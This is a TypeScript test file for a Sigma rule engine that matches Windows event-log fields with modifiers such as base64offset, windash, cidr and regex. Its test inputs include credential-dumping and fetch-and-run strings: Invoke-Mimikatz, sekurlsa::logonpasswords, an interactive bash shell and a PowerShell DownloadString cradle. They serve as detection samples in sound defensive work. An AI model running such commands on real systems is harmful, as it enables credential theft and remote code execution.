import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { describe, it } from "node:test";
import type { FieldValue } from "../../src/evtx/types.js";
import type { FieldCondition, SigmaValue } from "../../src/sigma/model.js";
import {
  compileFieldCondition,
  conditionAtoms,
  type EventAccess,
  ModifierError,
} from "../../src/sigma/modifiers/index.js";
import { minimumLength } from "../../src/sigma/modifiers/regex.js";

const position = { file: "test.yml", line: 1, column: 1 };

function str(text: string): SigmaValue {
  return { kind: "string", text };
}
function num(text: string): SigmaValue {
  return { kind: "number", text };
}
function bool(value: boolean): SigmaValue {
  return { kind: "boolean", value, text: String(value) };
}
const NULL: SigmaValue = { kind: "null" };

/** `Field|mod1|mod2` and values; plain strings become string values. */
function cond(spec: string, values: (string | SigmaValue)[]): FieldCondition {
  const [field, ...modifiers] = spec.split("|");
  return {
    field: field === "" ? null : field,
    modifiers,
    values: values.map((v) => (typeof v === "string" ? str(v) : v)),
    position,
  };
}

function event(fields: Record<string, FieldValue>): EventAccess {
  return {
    get: (f) => (Object.hasOwn(fields, f) ? fields[f] : undefined),
    values: () => Object.values(fields),
  };
}

function matcher(spec: string, values: (string | SigmaValue)[], placeholders?: Map<string, string[]>) {
  const m = compileFieldCondition(cond(spec, values), { placeholders });
  return (v: FieldValue | undefined, extra: Record<string, FieldValue> = {}): boolean => {
    const f = spec.split("|")[0];
    return m(event(v === undefined ? extra : { ...extra, [f]: v }));
  };
}

function rejects(spec: string, values: (string | SigmaValue)[], pattern: RegExp, placeholders?: Map<string, string[]>) {
  assert.throws(
    () => compileFieldCondition(cond(spec, values), { placeholders }),
    (err: unknown) => err instanceof ModifierError && pattern.test(err.message),
  );
}

describe("plain values and wildcards", () => {
  it("matches the whole value, case-insensitively", () => {
    const m = matcher("Image", ["C:\\Windows\\System32\\cmd.exe"]);
    assert.equal(m("c:\\windows\\system32\\CMD.EXE"), true);
    assert.equal(m("C:\\Windows\\System32\\cmd.exe.bak"), false);
    assert.equal(m("xC:\\Windows\\System32\\cmd.exe"), false);
    assert.equal(m(undefined), false);
    assert.equal(m(null), false);
  });
  it("cased is case-sensitive", () => {
    const m = matcher("Image|cased", ["cmd.exe"]);
    assert.equal(m("cmd.exe"), true);
    assert.equal(m("CMD.exe"), false);
  });
  it("handles * and ?", () => {
    const m = matcher("Image", ["*\\cmd.e?e"]);
    assert.equal(m("C:\\x\\cmd.exe"), true);
    assert.equal(m("C:\\x\\cmd.ee"), false);
    assert.equal(m("C:\\x\\cmd.exe "), false);
    const n = matcher("F", ["a*b*c"]);
    assert.equal(n("aXXbYYc"), true);
    assert.equal(n("abc"), true);
    assert.equal(n("aXXbYY"), false);
    assert.equal(n("acb"), false);
  });
  it("escapes wildcards and backslashes as specified", () => {
    const star = matcher("F", ["a\\*b"]);
    assert.equal(star("a*b"), true);
    assert.equal(star("axb"), false);
    const q = matcher("F", ["a\\?"]);
    assert.equal(q("a?"), true);
    assert.equal(q("ax"), false);
    // `\\*`: a backslash followed by a wildcard.
    const bsWild = matcher("F", ["C:\\\\*"]);
    assert.equal(bsWild("C:\\anything"), true);
    assert.equal(bsWild("C:anything"), false);
    // `\\\*`: a backslash and a plain star.
    const bsStar = matcher("F", ["a\\\\\\*"]);
    assert.equal(bsStar("a\\*"), true);
    assert.equal(bsStar("a\\x"), false);
    // A backslash before anything else is plain; `\\` before a plain character is one backslash.
    const plain = matcher("F", ["C:\\Windows"]);
    assert.equal(plain("C:\\Windows"), true);
    const dbl = matcher("F", ["C:\\\\Windows"]);
    assert.equal(dbl("C:\\Windows"), true);
    assert.equal(dbl("C:\\\\Windows"), false);
  });
  it("several values are OR, all makes them AND", () => {
    const any = matcher("F", ["a", "b"]);
    assert.equal(any("A"), true);
    assert.equal(any("b"), true);
    assert.equal(any("c"), false);
    const all = matcher("CommandLine|contains|all", ["-enc", "hidden"]);
    assert.equal(all("powershell -enc xx -w hidden"), true);
    assert.equal(all("powershell -enc xx"), false);
  });
  it("an empty value list matches nothing", () => {
    assert.equal(matcher("F", [])("x"), false);
  });
  it("arrays match when any element matches", () => {
    const m = matcher("F|endswith", [".exe"]);
    assert.equal(m(["a.dll", "b.EXE"]), true);
    assert.equal(m(["a.dll", "b.sys"]), false);
  });
});

describe("contains, startswith, endswith", () => {
  it("wrap the value", () => {
    const c = matcher("F|contains", ["mimi"]);
    assert.equal(c("xxMIMIkatz"), true);
    assert.equal(c("mim"), false);
    const s = matcher("F|startswith", ["adm"]);
    assert.equal(s("Administrator"), true);
    assert.equal(s("xadm"), false);
    const e = matcher("F|endswith", ["\\cmd.exe"]);
    assert.equal(e("C:\\cmd.exe"), true);
    assert.equal(e("C:\\cmd.exe2"), false);
  });
  it("keep inner wildcards", () => {
    const c = matcher("F|contains", ["a?c"]);
    assert.equal(c("xxabcxx"), true);
    assert.equal(c("xxacxx"), false);
  });
  it("reject two of them together", () => {
    rejects("F|contains|startswith", ["x"], /cannot be combined/);
  });
});

describe("numbers and strings", () => {
  it("a number value matches the number and its decimal string", () => {
    const m = matcher("EventID", [num("4688")]);
    assert.equal(m(4688), true);
    assert.equal(m("4688"), true);
    assert.equal(m(4689), false);
    assert.equal(m(46880), false);
    assert.equal(m(4688n), true);
  });
  it("00000429 compares as text", () => {
    const m = matcher("Status", [num("00000429")]);
    assert.equal(m("00000429"), true);
    assert.equal(m(429), false);
    assert.equal(m("429"), false);
  });
  it("a string value matches a number field by its text", () => {
    assert.equal(matcher("EventID", ["4688"])(4688), true);
    assert.equal(matcher("EventID|startswith", ["46"])(4688), true);
  });
  it("booleans compare by their text", () => {
    const m = matcher("Enabled", [bool(true)]);
    assert.equal(m(true), true);
    assert.equal(m("True"), true);
    assert.equal(m(false), false);
  });
});

describe("null, empty, exists, neq", () => {
  it("null matches an absent or null field, not an empty string", () => {
    const m = matcher("F", [NULL]);
    assert.equal(m(undefined), true);
    assert.equal(m(null), true);
    assert.equal(m(""), false);
    assert.equal(m("x"), false);
    rejects("F", [NULL, "x"], /null cannot be part of a list/);
  });
  it("'' matches an empty field only", () => {
    const m = matcher("F", [""]);
    assert.equal(m(""), true);
    assert.equal(m(undefined), false);
    assert.equal(m(null), false);
    assert.equal(m("x"), false);
  });
  it("exists checks presence only", () => {
    const yes = matcher("F|exists", [bool(true)]);
    assert.equal(yes(""), true);
    assert.equal(yes(null), true);
    assert.equal(yes(undefined), false);
    const no = matcher("F|exists", [bool(false)]);
    assert.equal(no(undefined), true);
    assert.equal(no("x"), false);
    rejects("F|exists", ["yes"], /boolean/);
    rejects("F|exists|contains", [bool(true)], /cannot be combined/);
  });
  it("neq: the field differs from every value", () => {
    const m = matcher("F|neq", ["a", "b"]);
    assert.equal(m("c"), true);
    assert.equal(m("A"), false);
    assert.equal(m("b"), false);
    assert.equal(m(undefined), true);
    const n = matcher("EventID|neq", [num("4688")]);
    assert.equal(n(4689), true);
    assert.equal(n(4688), false);
  });
});

describe("windash", () => {
  it("matches every dash variant", () => {
    const m = matcher("CommandLine|windash|contains", [" -enc "]);
    for (const d of ["-", "/", "\u2013", "\u2014", "\u2015"]) {
      assert.equal(m(`powershell ${d}enc AAAA`), true, d);
    }
    assert.equal(m("powershell +enc AAAA"), false);
    assert.equal(m("powershell enc AAAA"), false);
  });
  it("handles several dashes independently", () => {
    const m = matcher("F|windash", ["-a -b"]);
    assert.equal(m("/a \u2014b"), true);
    assert.equal(m("-a b"), false);
  });
});

describe("encodings", () => {
  it("base64 encodes the UTF-8 value", () => {
    const m = matcher("F|base64", ["http://"]);
    assert.equal(m("aHR0cDovLw=="), true);
    assert.equal(m("aHR0cDovL"), false);
    const c = matcher("F|base64|contains", ["http://"]);
    assert.equal(c("xxaHR0cDovLw==yy"), true);
  });
  it("base64offset produces the three offsets", () => {
    const m = matcher("F|base64offset|contains", ["/bin/bash"]);
    for (const prefix of ["", "x", "xy", "abc", "abcd"]) {
      const encoded = Buffer.from(`${prefix}/bin/bash -i`).toString("base64");
      assert.equal(m(encoded), true, prefix);
    }
    assert.equal(m(Buffer.from("/bin/sh -i").toString("base64")), false);
    // The three known fragments of "/bin/bash" (as pySigma documents them).
    const exact = matcher("F|base64offset", ["/bin/bash"]);
    assert.equal(exact("L2Jpbi9iYXNo"), true);
    assert.equal(exact("9iaW4vYmFza"), true);
    assert.equal(exact("vYmluL2Jhc2"), true);
  });
  it("utf16le/wide/utf16be/utf16 with base64", () => {
    const le = Buffer.from("cmd", "utf16le");
    assert.equal(matcher("F|utf16le|base64", ["cmd"])(le.toString("base64")), true);
    assert.equal(matcher("F|wide|base64", ["cmd"])(le.toString("base64")), true);
    const be = Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]);
    assert.equal(matcher("F|utf16be|base64", ["cmd"])(be.toString("base64")), true);
    const bom = Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]);
    assert.equal(matcher("F|utf16|base64", ["cmd"])(bom.toString("base64")), true);
    assert.equal(matcher("F|utf16le|base64", ["cmd"])(Buffer.from("cmd").toString("base64")), false);
  });
  it("utf16le with base64offset finds the value at any offset", () => {
    const m = matcher("CommandLine|wide|base64offset|contains", ["Invoke-Mimikatz"]);
    for (const prefix of ["", "a", "IEX (", "IEX (x"]) {
      const encoded = Buffer.from(`${prefix}Invoke-Mimikatz -DumpCreds`, "utf16le").toString("base64");
      assert.equal(m(`powershell -enc ${encoded}`), true, prefix);
    }
    assert.equal(m(Buffer.from("Invoke-Mimikatz", "utf8").toString("base64")), false);
  });
  it("rejects encoding a value with wildcards", () => {
    rejects("F|contains|base64", ["x"], /wildcards/);
    rejects("F|base64", ["a*b"], /wildcards/);
  });
});

describe("numeric comparisons", () => {
  it("lt, lte, gt, gte on integers and decimals", () => {
    const lt = matcher("N|lt", [num("10")]);
    assert.equal(lt(9), true);
    assert.equal(lt(10), false);
    assert.equal(lt("9.5"), true);
    assert.equal(lt(-3n), true);
    const lte = matcher("N|lte", [num("10")]);
    assert.equal(lte(10), true);
    assert.equal(lte(10.01), false);
    const gt = matcher("N|gt", [num("2.5")]);
    assert.equal(gt(3), true);
    assert.equal(gt("2.5"), false);
    const gte = matcher("N|gte", [num("2.5")]);
    assert.equal(gte(2.5), true);
    assert.equal(gte("2"), false);
  });
  it("non-numeric fields never match", () => {
    const gt = matcher("N|gt", [num("1")]);
    assert.equal(gt("abc"), false);
    assert.equal(gt(null), false);
    assert.equal(gt(true), false);
    assert.equal(gt(undefined), false);
  });
  it("compares big integers exactly", () => {
    const gt = matcher("N|gt", [num("9007199254740992")]);
    assert.equal(gt(9007199254740993n), true);
    assert.equal(gt("9007199254740992"), false);
  });
  it("rejects non-number values and mixed modifiers", () => {
    rejects("N|lt", ["abc"], /needs a number/);
    rejects("N|lt", ["5"], /needs a number/);
    rejects("N|lt|gt", [num("5")], /only one/);
    rejects("N|lt|contains", [num("5")], /cannot be combined/);
  });
});

describe("time parts", () => {
  const t1 = "2025-11-27T07:40:10.165324Z";
  const t2 = "2025-11-27 07:40:10.132";
  it("extracts each part", () => {
    for (const t of [t1, t2]) {
      assert.equal(matcher("T|minute", [num("40")])(t), true);
      assert.equal(matcher("T|minute", [num("41")])(t), false);
      assert.equal(matcher("T|hour", [num("7")])(t), true);
      assert.equal(matcher("T|hour", [num("8")])(t), false);
      assert.equal(matcher("T|day", [num("27")])(t), true);
      assert.equal(matcher("T|month", [num("11")])(t), true);
      assert.equal(matcher("T|month", [num("12")])(t), false);
      assert.equal(matcher("T|year", [num("2025")])(t), true);
      assert.equal(matcher("T|week", [num("48")])(t), true);
      assert.equal(matcher("T|week", [num("47")])(t), false);
    }
  });
  it("uses ISO week numbers across year ends", () => {
    assert.equal(matcher("T|week", [num("1")])("2024-12-30T00:00:00Z"), true);
    assert.equal(matcher("T|week", [num("53")])("2021-01-01T00:00:00Z"), true);
    assert.equal(matcher("T|week", [num("52")])("2023-01-01T00:00:00Z"), true);
  });
  it("does not match non-timestamps and combines with comparisons", () => {
    assert.equal(matcher("T|hour", [num("7")])("yesterday"), false);
    assert.equal(matcher("T|hour", [num("7")])(7), false);
    const night = matcher("T|hour|lt", [num("6")]);
    assert.equal(night("2025-11-27T05:59:00Z"), true);
    assert.equal(night(t1), false);
  });
});

describe("cidr", () => {
  it("IPv4", () => {
    const m = matcher("Ip|cidr", ["10.0.0.0/8", "192.168.1.0/24"]);
    assert.equal(m("10.1.2.3"), true);
    assert.equal(m("192.168.1.255"), true);
    assert.equal(m("192.168.2.1"), false);
    assert.equal(m("11.0.0.1"), false);
    assert.equal(m("not an ip"), false);
    assert.equal(m("10.1.2"), false);
    assert.equal(matcher("Ip|cidr", ["0.0.0.0/0"])("8.8.8.8"), true);
  });
  it("IPv6 and IPv4-mapped IPv6", () => {
    const m = matcher("Ip|cidr", ["fe80::/10"]);
    assert.equal(m("fe80::1"), true);
    assert.equal(m("FEBF:0:0:0:0:0:0:1"), true);
    assert.equal(m("fec0::1"), false);
    assert.equal(m("fe80::1%12"), true);
    assert.equal(m("10.0.0.1"), false);
    const v4 = matcher("Ip|cidr", ["10.0.0.0/8"]);
    assert.equal(v4("::ffff:10.2.3.4"), true);
    assert.equal(v4("::ffff:11.2.3.4"), false);
    assert.equal(v4("::1"), false);
    const loop = matcher("Ip|cidr", ["::1/128"]);
    assert.equal(loop("0:0:0:0:0:0:0:1"), true);
    assert.equal(loop("::2"), false);
  });
  it("rejects invalid networks", () => {
    rejects("Ip|cidr", ["10.0.0.0/33"], /prefix length/);
    rejects("Ip|cidr", ["300.0.0.0/8"], /invalid network/);
    rejects("Ip|cidr|contains", ["10.0.0.0/8"], /cannot be combined/);
  });
});

describe("re", () => {
  it("is case-sensitive by default and takes i, m, s", () => {
    const m = matcher("F|re", ["^cmd\\.exe$"]);
    assert.equal(m("cmd.exe"), true);
    assert.equal(m("CMD.exe"), false);
    assert.equal(m("xcmd.exe"), false);
    assert.equal(matcher("F|re|i", ["^cmd\\.exe$"])("CMD.exe"), true);
    assert.equal(matcher("F|re", ["(?i)^cmd\\.exe$"])("CMD.exe"), true);
    assert.equal(matcher("F|re", ["^b"])("a\nb"), false);
    assert.equal(matcher("F|re|m", ["^b"])("a\nb"), true);
    assert.equal(matcher("F|re", ["a.b"])("a\nb"), false);
    assert.equal(matcher("F|re|s", ["a.b"])("a\nb"), true);
  });
  it("matches numbers by their text", () => {
    assert.equal(matcher("EventID|re", ["^46\\d\\d$"])(4688), true);
  });
  it("runs in linear time on catastrophic patterns", () => {
    const m = matcher("F|re", ["(a+)+$"]);
    const evil = `${"a".repeat(100_000)}!`;
    const start = performance.now();
    assert.equal(m(evil), false); // `$` is the end of the text, after `!`
    assert.equal(matcher("F|re", ["^(a+)+$"])(evil), false);
    assert.equal(matcher("F|re", ["(a+)+!$"])(evil), true);
    assert.ok(performance.now() - start < 2000);
  });
  it("reports patterns RE2 rejects and invalid combinations", () => {
    rejects("F|re", ["(?<=a)b"], /re: invalid regular expression.*\(\?<=/);
    rejects("F|re|contains", ["a"], /cannot be combined/);
    rejects("F|i", ["a"], /sub-modifier/);
  });
});

describe("fieldref", () => {
  it("compares with another field of the event", () => {
    const m = matcher("TargetUser|fieldref", ["SubjectUser"]);
    assert.equal(m("Alice", { SubjectUser: "alice" }), true);
    assert.equal(m("Alice", { SubjectUser: "bob" }), false);
    assert.equal(m("Alice", {}), false);
    assert.equal(matcher("TargetUser|fieldref|cased", ["SubjectUser"])("Alice", { SubjectUser: "alice" }), false);
    assert.equal(matcher("Pid|fieldref", ["ParentPid"])(42, { ParentPid: "42" }), true);
  });
  it("with neq and contains/startswith/endswith", () => {
    const neq = matcher("TargetUser|fieldref|neq", ["SubjectUser"]);
    assert.equal(neq("alice", { SubjectUser: "bob" }), true);
    assert.equal(neq("alice", { SubjectUser: "ALICE" }), false);
    const c = matcher("CommandLine|fieldref|contains", ["Image"]);
    assert.equal(c("run C:\\x.exe now", { Image: "c:\\x.exe" }), true);
    assert.equal(c("run y.exe", { Image: "c:\\x.exe" }), false);
    assert.equal(matcher("A|fieldref|startswith", ["B"])("abc", { B: "ab" }), true);
    assert.equal(matcher("A|fieldref|endswith", ["B"])("abc", { B: "ab" }), false);
  });
});

describe("expand", () => {
  const placeholders = new Map([
    ["Admins", ["root", "adm*"]],
    ["Hosts", ["srv1", "srv2"]],
  ]);
  it("replaces placeholders with every value of their list", () => {
    const m = matcher("User|expand", ["%Admins%"], placeholders);
    assert.equal(m("root"), true);
    assert.equal(m("Administrator"), true);
    assert.equal(m("bob"), false);
    const two = matcher("Path|expand", ["%Hosts%:%Admins%"], placeholders);
    assert.equal(two("srv2:root"), true);
    assert.equal(two("srv2:admin"), true);
    assert.equal(two("srv3:root"), false);
    // `\%` before a placeholder is a plain percent sign: `\%Admins%` stays literal.
    assert.equal(matcher("F|expand", ["a\\%Admins%"], placeholders)("a%admins%"), true);
  });
  it("keeps escaped percent signs and literal placeholders without expand", () => {
    const m = matcher("F|expand", ["\\%plain%Hosts%"], placeholders);
    assert.equal(m("%plainsrv1"), true);
    assert.equal(matcher("F", ["%Hosts%"])("%hosts%"), true);
    assert.equal(matcher("F", ["%Hosts%"])("srv1"), false);
  });
  it("rejects an unresolved placeholder", () => {
    rejects("F|expand", ["%Missing%"], /unresolved placeholder %Missing%/, placeholders);
    rejects("F|expand", ["%Admins%"], /unresolved placeholder %Admins%/);
  });
});

describe("keywords", () => {
  it("occur anywhere in any value, case-insensitively", () => {
    const m = compileFieldCondition(cond("", ["mimikatz", "sekurlsa"]));
    assert.equal(m(event({ A: "x", CommandLine: "run MIMIKATZ.exe" })), true);
    assert.equal(m(event({ A: ["y", "sekurlsa::logonpasswords"] })), true);
    assert.equal(m(event({ A: "mimi" })), false);
    const n = compileFieldCondition(cond("", [num("4688")]));
    assert.equal(n(event({ EventID: 4688 })), true);
  });
  it("reject field-only modifiers", () => {
    rejects("|re", ["x"], /keywords/);
  });
});

describe("modifier checks", () => {
  it("rejects unknown and repeated modifiers", () => {
    rejects("F|bogus", ["x"], /unknown modifier 'bogus'/);
    rejects("F|contains|contains", ["x"], /repeated/);
  });
});

describe("conditionAtoms", () => {
  it("gives the literal texts a condition cannot hold without, lower-cased", () => {
    assert.deepEqual(conditionAtoms(cond("Image|endswith", ["\\CMD.exe", "\\pwsh.exe"])), {
      field: "Image",
      all: false,
      perValue: [[{ kind: "endswith", needle: "\\cmd.exe" }], [{ kind: "endswith", needle: "\\pwsh.exe" }]],
    });
    assert.deepEqual(conditionAtoms(cond("F", ["Abc", ""]))?.perValue, [
      [{ kind: "exact", needle: "abc" }],
      [{ kind: "exact", needle: "" }],
    ]);
    assert.deepEqual(conditionAtoms(cond("F|contains|all", ["a", "b"]))?.all, true);
    assert.equal(conditionAtoms(cond("F|contains|windash", ["-x"]))?.perValue[0]?.length, 5);
  });
  it("uses the longest literal run of a wildcard pattern", () => {
    assert.deepEqual(conditionAtoms(cond("F", ["a*bcd?e"]))?.perValue, [[{ kind: "contains", needle: "bcd" }]]);
    assert.deepEqual(conditionAtoms(cond("F|startswith", ["ab"]))?.perValue, [[{ kind: "startswith", needle: "ab" }]]);
  });
  it("a regex gives the plain texts every match contains", () => {
    const atoms = (p: string, mods = "") => conditionAtoms(cond(`F|re${mods}`, [p]))?.perValue[0];
    assert.deepEqual(atoms("://[0-9]{1,3}\\.[0-9]"), [{ kind: "contains", needle: "://" }]);
    assert.deepEqual(atoms("\\$PSHome\\[\\s*\\d"), [{ kind: "contains", needle: "$pshome[" }]);
    assert.deepEqual(atoms("cmd.{0,5}(?:/c|/r).+powershell"), [{ kind: "contains", needle: "powershell" }]);
    assert.deepEqual(atoms("ab?cd|xy+z"), [
      { kind: "contains", needle: "cd" },
      { kind: "contains", needle: "xy" },
    ]);
    assert.deepEqual(atoms("abc{0,2}d"), [{ kind: "contains", needle: "ab" }]);
    assert.deepEqual(atoms("\\x41bc\\p{Greek}xyz"), [{ kind: "contains", needle: "xyz" }]);
    // Case-insensitive: runs end at "s", whose fold partner U+017F lower-cases to itself.
    assert.deepEqual(atoms("invoke-expression", "|i"), [{ kind: "contains", needle: "invoke-expre" }]);
    assert.deepEqual(atoms("(?i)invoke-expression"), [{ kind: "contains", needle: "invoke-expre" }]);
    assert.deepEqual(atoms("INVOKE-EXPRESSION"), [{ kind: "contains", needle: "invoke-expression" }]);
  });
  it("a regex's shortest match length bounds the texts worth testing", () => {
    assert.equal(minimumLength(".{1000,}"), 1000);
    assert.equal(minimumLength("\\s[a-f0-9]{64}\\s"), 66);
    assert.equal(minimumLength("a{2}b?c+|xy"), 2);
    assert.equal(minimumLength("(abc)+d*?e{0,3}\\b"), 0);
    assert.equal(minimumLength("\\Qabcdef\\E"), 0);
    assert.equal(matcher("F|re", [".{5,}"])("abcd"), false);
    // The length-check shape is counted, not run on RE2: same answers, newlines and surrogate pairs included.
    assert.equal(matcher("F|re", [".{3}"])("ab\ncd"), false);
    assert.equal(matcher("F|re|s", [".{3}"])("ab\ncd"), true);
    assert.equal(matcher("F|re", [".{3,}"])("x\u{1F600}\u{1F600}"), true);
    assert.equal(matcher("F|re", [".{4,9}"])("x\u{1F600}\u{1F600}"), false);
    assert.equal(matcher("F|re", [".{5,}"])("abcde"), true);
  });
  it("regular expressions on one text, several in turn and texts alternating, answer as each would alone", () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://x/\u00e9') # caf\u00e9";
    const tests = [
      matcher("F|re", ["(?i)iex\\s*\\("]),
      matcher("F|re", ["DownloadString\\('http"]),
      matcher("F|re|i", ["caf\u00c9$"]),
      matcher("F|re", ["\\x{FFFD}"]),
    ];
    const texts = [script, "whoami /all", script, "a\ud800b", "a\ud800b", script];
    const expected = [
      [true, true, true, false],
      [false, false, false, false],
      [true, true, true, false],
      // A lone surrogate reads as U+FFFD, as RE2 reads a string itself.
      [false, false, false, true],
      [false, false, false, true],
      [true, true, true, false],
    ];
    assert.deepEqual(
      texts.map((t) => tests.map((test) => test(t))),
      expected,
    );
  });
  it("keywords become contains atoms over any value", () => {
    assert.deepEqual(conditionAtoms(cond("", ["Mimikatz"])), {
      field: null,
      all: false,
      perValue: [[{ kind: "contains", needle: "mimikatz" }]],
    });
  });
  it("has none for shapes a substring cannot decide", () => {
    for (const [key, values] of [
      ["F", ["*"]],
      ["F", ["?*"]],
      ["F|re", ["a|.*"]],
      ["F|re|neq", ["abc"]],
      ["F|neq", ["a"]],
      ["F|cased", ["Abc"]],
      ["F|gt", ["1"]],
      ["F|cidr", ["10.0.0.0/8"]],
      ["F|fieldref", ["G"]],
      ["F", ["\u03a3x"]],
    ] as const) {
      assert.equal(conditionAtoms(cond(key, [...values])), null, key);
    }
  });
});
